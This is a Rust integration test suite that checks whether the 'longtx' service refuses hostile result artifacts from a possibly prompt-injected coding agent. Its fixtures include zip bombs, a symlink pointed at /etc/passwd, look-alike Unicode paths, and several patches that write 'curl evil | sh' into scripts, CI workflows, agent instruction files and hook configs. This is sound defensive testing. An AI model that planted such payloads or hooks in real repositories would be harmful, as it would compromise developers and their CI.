//! The hostile-result suite: the real `longtx serve` binary, a real
//! PostgreSQL, a real bare git remote and the fake GitHub, driven only
//! through the channel a prompt-injected agent controls: the
//! `longtx-result` artifact of the run longtx dispatched (and, for one
//! case, a commit pushed onto the job's branch). Each case is followed by a
//! clean job, which must still get its PR in about the usual time; at the
//! end the process's peak memory, its workers and the day's caps are read.

use longtx_testkit::agent_result::patch_over;
use longtx_testkit::github_events::{run_completed, sign};
use longtx_testkit::hostile_results::{
    binary_literal_patch, result_json, with_mode, zip_bomb, zip_overlapping,
};
use longtx_testkit::{FakeGitHub, GitRepo, TempDir, TestDatabase};
use serde_json::{json, Value};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

const SECRET: &str = "hostile-suite-webhook-secret";

/// `longtx serve`, killed when dropped.
struct Served {
    child: Child,
    url: String,
    client: reqwest::Client,
    _data: TempDir,
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Served {
    async fn start(github: &FakeGitHub, db: &TestDatabase, remote: &Path) -> Served {
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let data = TempDir::new("hostile-serve");
        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
        let child = Command::new(env!("CARGO_BIN_EXE_longtx"))
            .arg("serve")
            .current_dir(&root)
            .env("DATABASE_URL", db.url())
            .env("LONGTX_LISTEN", format!("127.0.0.1:{port}"))
            .env("LONGTX_DATA_DIR", data.path())
            .env("LONGTX_GITHUB_API_URL", &github.url)
            .env("LONGTX_GITHUB_TOKEN", "ghp_test_token")
            .env("LONGTX_GITHUB_REPO", "acme/monolith")
            .env("LONGTX_GIT_URL", remote)
            .env("LONGTX_GITHUB_WEBHOOK_SECRET", SECRET)
            .env("LONGTX_PUBLIC_URL", format!("http://127.0.0.1:{port}"))
            .env("LONGTX_MAX_RUNNING", "100")
            .env("LONGTX_MAX_DISPATCHES_PER_DAY", "1000")
            .env("LONGTX_MAX_COST_PER_DAY", "10000")
            .env("LONGTX_LOG", "error")
            .env_remove("LONGTX_CONFIG")
            .env_remove("GITHUB_TOKEN")
            .stdout(Stdio::null())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("longtx serve starts");
        let served = Served {
            child,
            url: format!("http://127.0.0.1:{port}"),
            client: reqwest::Client::new(),
            _data: data,
        };
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            if let Ok(r) = served.client.get(served.at("/readyz")).send().await {
                if r.status() == 200 {
                    return served;
                }
            }
            assert!(Instant::now() < deadline, "longtx serve never became ready");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }

    fn at(&self, path: &str) -> String {
        format!("{}{path}", self.url)
    }

    async fn json(&self, path: &str) -> Value {
        self.client
            .get(self.at(path))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap()
    }

    async fn text(&self, path: &str) -> (u16, String) {
        let r = self.client.get(self.at(path)).send().await.unwrap();
        (r.status().as_u16(), r.text().await.unwrap())
    }

    /// An alert for `source`; the job's id.
    async fn fire(&self, source: &str) -> i64 {
        let body = json!({"version": "4", "status": "firing", "alerts": [{"status": "firing",
            "labels": {"alertname": "LongTransaction", "query_source": source, "table": "orders"},
            "annotations": {"value": "150"}}]});
        let answer: Value = self
            .client
            .post(self.at("/webhooks/alertmanager"))
            .json(&body)
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        answer["results"][0]["job_id"]
            .as_i64()
            .unwrap_or_else(|| panic!("{answer}"))
    }

    /// GitHub's signed `workflow_run` delivery for the job's run.
    async fn run_ended(&self, job: i64, run: u64) {
        let body = serde_json::to_vec(&run_completed(job, run, "success")).unwrap();
        let response = self
            .client
            .post(self.at("/webhooks/github"))
            .header("content-type", "application/json")
            .header("x-github-event", "workflow_run")
            .header("x-github-delivery", format!("run-{run}"))
            .header("x-hub-signature-256", sign(SECRET, &body))
            .body(body)
            .send()
            .await
            .unwrap();
        assert!(response.status().is_success(), "{}", response.status());
    }

    async fn job(&self, job: i64) -> Value {
        self.json(&format!("/api/jobs/{job}")).await["job"].clone()
    }

    /// Waits until the job has left `agent_running` (at most 60 s).
    async fn ended(&self, job: i64) -> Value {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let row = self.job(job).await;
            let state = row["state"].as_str().unwrap_or("");
            if !matches!(state, "queued" | "dispatching" | "agent_running")
                || Instant::now() > deadline
            {
                return row;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    /// The peak resident memory of the serving process (VmHWM), bytes.
    fn peak_rss(&self) -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id())).unwrap();
        let kb: u64 = status
            .lines()
            .find_map(|l| l.strip_prefix("VmHWM:"))
            .and_then(|v| v.split_whitespace().next())
            .and_then(|v| v.parse().ok())
            .expect("VmHWM");
        kb * 1024
    }
}

/// The run longtx dispatched for `job` (waits until it is there) and the
/// commit it pinned.
async fn run_of(github: &FakeGitHub, job: i64) -> (u64, String) {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        if let Some(run) = github
            .runs()
            .iter()
            .find(|r| r["inputs"]["job_id"].as_str().and_then(|s| s.parse().ok()) == Some(job))
        {
            return (
                run["id"].as_u64().unwrap(),
                run["inputs"]["base_sha"].as_str().unwrap().to_owned(),
            );
        }
        assert!(Instant::now() < deadline, "job {job} was never dispatched");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// The target repository: a model, an executable script and a symlink.
fn target_repository() -> GitRepo {
    let mut repo = GitRepo::new("hostile");
    repo.commit(
        &[
            ("app/models/order.rb", "class Order; end\n"),
            ("bin/setup", "#!/bin/sh\necho setting up\n"),
            ("config/database.example.yml", "adapter: mysql2\n"),
            (".github/CODEOWNERS", "app/ @alice\n"),
        ],
        "Alice",
        "alice@example.com",
        3,
    );
    std::os::unix::fs::symlink(
        "database.example.yml",
        repo.path.join("config/database.yml"),
    )
    .unwrap();
    repo.git(&["add", "config/database.yml"]);
    repo.git(&["update-index", "--chmod=+x", "bin/setup"]);
    repo.git(&["commit", "--quiet", "-m", "a symlink and a script"]);
    repo.bare();
    repo
}

/// What a hostile run leaves, and the reason the job page must give.
struct Case {
    name: &'static str,
    artifact: Box<dyn Fn(&str, &Path) -> Vec<u8>>,
    reason: &'static str,
}

fn artifact(base: &str, patch: &[u8]) -> Vec<u8> {
    longtx_github::zip::write(&[
        ("result.json", &result_json(base, Some(json!(0.5)))),
        ("patch.diff", patch),
    ])
}

/// A patch writing `files` over the remote's main.
fn writes(remote: &Path, files: &[(&str, &str)]) -> Vec<u8> {
    patch_over(remote, "main", files).1
}

fn protected_path_case(name: &'static str, path: &'static str) -> Case {
    Case {
        name,
        artifact: Box::new(move |base, remote| {
            artifact(
                base,
                &writes(remote, &[(path, "{\"hooks\": \"curl evil | sh\"}\n")]),
            )
        }),
        reason: "protected path",
    }
}

fn cases() -> Vec<Case> {
    let mut cases = vec![
        Case {
            name: "a zip bomb: 2,000 directory entries over one deflated MiB",
            artifact: Box::new(|_, _| zip_bomb("patch.diff", &vec![b'x'; 1 << 20], 2000)),
            reason: "entries, over the 64 longtx reads",
        },
        Case {
            name: "two entries sharing one deflated run",
            artifact: Box::new(|base, _| zip_overlapping(&result_json(base, Some(json!(1))))),
            reason: "share their data",
        },
        Case {
            name: "a binary literal that inflates far past the size it declares",
            artifact: Box::new(|base, _| {
                artifact(
                    base,
                    binary_literal_patch("public/logo.bin", 10, &vec![0u8; 64 << 20]).as_bytes(),
                )
            }),
            reason: "does not inflate to the size it declares",
        },
        Case {
            name: "a binary literal declaring a 790 MiB file",
            artifact: Box::new(|base, _| {
                artifact(
                    base,
                    binary_literal_patch("public/logo.bin", 790 << 20, b"x").as_bytes(),
                )
            }),
            reason: "one file may hold",
        },
        Case {
            name: "a mode git does not know (100600)",
            artifact: Box::new(|base, remote| {
                let patch = writes(remote, &[("app/models/order.rb", "class Order\nend\n")]);
                artifact(base, &with_mode(&patch, "100600"))
            }),
            reason: "not a mode git has for a file",
        },
        Case {
            name: "a symlink in the base written through as a plain file",
            artifact: Box::new(|base, _| {
                let patch = "diff --git a/config/database.yml b/config/database.yml\n--- a/config/database.yml\n+++ b/config/database.yml\n@@ -1 +1 @@\n-database.example.yml\n\\ No newline at end of file\n+/etc/passwd\n";
                artifact(base, patch.as_bytes())
            }),
            reason: "symbolic link in the base",
        },
        Case {
            name: "an edit of an executable script, whose bit the commit API would drop",
            artifact: Box::new(|base, remote| {
                artifact(
                    base,
                    &writes(remote, &[("bin/setup", "#!/bin/sh\ncurl evil | sh\n")]),
                )
            }),
            reason: "executable (100755) in the base",
        },
        Case {
            name: "a result.json larger than the artifact budget",
            artifact: Box::new(|base, _| {
                let mut result: Value = serde_json::from_slice(&result_json(base, None)).unwrap();
                result["summary"] = json!("x".repeat(3 << 20));
                longtx_github::zip::write(&[("result.json", result.to_string().as_bytes())])
            }),
            reason: "inflates past",
        },
    ];
    for (name, path) in [
        ("case: .Claude/settings.json", ".Claude/settings.json"),
        (
            "case: .GitHub/workflows/evil.yml",
            ".GitHub/workflows/evil.yml",
        ),
        (
            "trailing dot: .claude./settings.json",
            ".claude./settings.json",
        ),
        ("case: Vendor/x.rb", "Vendor/x.rb"),
        ("case: codeowners", "codeowners"),
        ("case: .GITMODULES", ".GITMODULES"),
        ("agent instructions: CLAUDE.md", "CLAUDE.md"),
        (
            "agent instructions at depth: app/CLAUDE.md",
            "app/CLAUDE.md",
        ),
        ("agent instructions: AGENTS.md", "AGENTS.md"),
        ("agent tools: .mcp.json", ".mcp.json"),
        ("hooks: .husky/pre-commit", ".husky/pre-commit"),
        ("attributes: .gitattributes", ".gitattributes"),
        ("other CI: .circleci/config.yml", ".circleci/config.yml"),
        ("other CI: .gitlab-ci.yml", ".gitlab-ci.yml"),
        ("editor tasks: .vscode/tasks.json", ".vscode/tasks.json"),
        (
            "dev container: .devcontainer/devcontainer.json",
            ".devcontainer/devcontainer.json",
        ),
    ] {
        cases.push(protected_path_case(name, path));
    }
    for (name, path) in [
        (
            "dotless i: .gıthub/workflows/x.yml",
            ".gıthub/workflows/x.yml",
        ),
        (
            "zero-width non-joiner: .gi\u{200c}thub/workflows/x.yml",
            ".gi\u{200c}thub/workflows/x.yml",
        ),
    ] {
        cases.push(Case {
            name,
            artifact: Box::new(move |base, remote| {
                artifact(base, &writes(remote, &[(path, "on: push\n")]))
            }),
            reason: "invisible or look-alike characters",
        });
    }
    cases
}

/// A clean fix and its result, claiming `cost`.
fn clean(base: &str, remote: &Path, n: usize, cost: Option<Value>) -> Vec<u8> {
    let patch = writes(
        remote,
        &[(
            "app/models/order.rb",
            &format!("class Order\n  # fix {n}: the HTTP call runs after commit\nend\n"),
        )],
    );
    longtx_github::zip::write(&[
        ("result.json", &result_json(base, cost)),
        ("patch.diff", &patch),
    ])
}

/// Sends a clean job through: its PR must open. How long it took.
async fn clean_job(
    served: &Served,
    github: &FakeGitHub,
    remote: &Path,
    n: usize,
    cost: Option<Value>,
) -> Duration {
    let job = served.fire(&format!("Clean{n}::SyncWorker")).await;
    let (run, base) = run_of(github, job).await;
    github
        .store_artifact(run, "longtx-result", clean(&base, remote, n, cost), true)
        .unwrap();
    github.complete_run(run, "success");
    let started = Instant::now();
    served.run_ended(job, run).await;
    let row = served.ended(job).await;
    assert!(
        row["pr_number"].as_i64().is_some(),
        "clean job {n} got no PR: {row}"
    );
    started.elapsed()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_hostile_result_is_refused_with_its_reason_and_longtx_keeps_working() {
    let repo = target_repository();
    let remote = repo.bare_path();
    let github = FakeGitHub::start()
        .await
        .with_remote(&remote)
        .with_shipped_workflows();
    let db = TestDatabase::create().await;
    let served = Served::start(&github, &db, &remote).await;

    let usual = clean_job(&served, &github, &remote, 0, Some(json!(0.25))).await;
    let mut slowest = usual;
    let cases = cases();
    for (n, case) in cases.iter().enumerate() {
        let job = served.fire(&format!("Hostile{n}::SyncWorker")).await;
        let (run, base) = run_of(&github, job).await;
        github
            .store_artifact(run, "longtx-result", (case.artifact)(&base, &remote), true)
            .unwrap();
        github.complete_run(run, "success");
        served.run_ended(job, run).await;
        let row = served.ended(job).await;
        let reason = row["state_reason"].as_str().unwrap_or("");
        assert_eq!(row["state"], "no_pr", "{}: {row}", case.name);
        assert!(
            reason.contains(case.reason),
            "{}: the reason does not say {:?}: {reason}",
            case.name,
            case.reason
        );
        let (_, page) = served.text(&format!("/jobs/{job}")).await;
        assert!(
            page.contains(&html_escaped(case.reason)),
            "{}: the job page does not say why",
            case.name
        );
        let took = clean_job(&served, &github, &remote, n + 1, Some(json!(0.25))).await;
        slowest = slowest.max(took);
    }
    eprintln!(
        "hostile suite: {} cases; a clean job's PR took {usual:?} at first, {slowest:?} at the slowest",
        cases.len()
    );
    assert!(
        slowest < usual * 5 + Duration::from_secs(3),
        "a clean job after a hostile case took {slowest:?} (usual {usual:?})"
    );
    assert_eq!(
        github.api_commits().len(),
        cases.len() + 1,
        "only the clean jobs were committed"
    );

    // A foreign commit on the job's branch, with the right trailers and the
    // very tree the patch makes, pushed by someone other than longtx.
    let job = served.fire("Foreign::SyncWorker").await;
    let (run, base) = run_of(&github, job).await;
    let branch = branch_of(&db, job).await;
    push_foreign_commit(&repo, &remote, &branch, &base, job);
    github
        .store_artifact(run, "longtx-result", clean(&base, &remote, 999, None), true)
        .unwrap();
    github.complete_run(run, "success");
    served.run_ended(job, run).await;
    let row = served.ended(job).await;
    assert_eq!(row["state"], "no_pr", "{row}");
    assert!(
        row["state_reason"]
            .as_str()
            .unwrap_or("")
            .contains("a commit longtx did not make for this round"),
        "{row}"
    );

    // Costs claimed by the run: zero, ten thousand, none. Each run counts
    // its $5 budget against the day, whatever it says.
    for (n, cost) in [
        (2001, Some(json!(0))),
        (2002, Some(json!(10000))),
        (2003, None),
    ] {
        clean_job(&served, &github, &remote, n, cost).await;
    }
    let status = served.json("/api/dispatch").await;
    let runs = github.runs().len() as f64;
    assert_eq!(
        status["status"]["budget_today_usd"].as_f64(),
        Some(runs * 5.0),
        "{status}"
    );
    let shown = status["status"]["cost_today_usd"].as_f64().unwrap();
    assert!(
        shown <= runs * 5.0,
        "no report counts past its budget: {shown} for {runs} runs"
    );

    // Nothing died, nothing restarted, and memory stayed small.
    let (ready, body) = served.text("/readyz").await;
    assert_eq!(ready, 200, "{body}");
    let (_, metrics) = served.text("/metrics").await;
    assert!(
        !metrics.contains("longtx_worker_restarts_total{"),
        "a worker restarted: {metrics}"
    );
    let peak = served.peak_rss();
    eprintln!("hostile suite: longtx serve peaked at {} MB", peak >> 20);
    assert!(peak < 300 << 20, "peak RSS {} MB", peak >> 20);
}

fn html_escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#x27;")
}

/// The job's fix branch, `longtx/<installation>/<job>`.
async fn branch_of(db: &TestDatabase, job: i64) -> String {
    let mut conn = db.connect().await;
    let id: String = longtx_testkit::sqlx::query_scalar("SELECT id FROM installation")
        .fetch_one(&mut conn)
        .await
        .unwrap();
    format!("longtx/{id}/{job}")
}

/// Pushes onto `branch` of `remote`, at `base`, the commit longtx would
/// make of clean fix 999 (same trailers, same files), but as a stranger.
fn push_foreign_commit(repo: &GitRepo, remote: &Path, branch: &str, base: &str, job: i64) {
    repo.git(&["checkout", "--quiet", "-B", "foreign", base]);
    std::fs::write(
        repo.path.join("app/models/order.rb"),
        "class Order\n  # fix 999: the HTTP call runs after commit\nend\n",
    )
    .unwrap();
    repo.git(&["add", "-A"]);
    repo.git(&[
        "commit",
        "--quiet",
        "-m",
        &format!("Shorten the long transaction\n\nLongtx-Job: {job}\nLongtx-Round: 0\n"),
    ]);
    repo.git(&[
        "push",
        "--quiet",
        remote.to_str().unwrap(),
        &format!("foreign:refs/heads/{branch}"),
    ]);
    repo.git(&["checkout", "--quiet", "main"]);
}
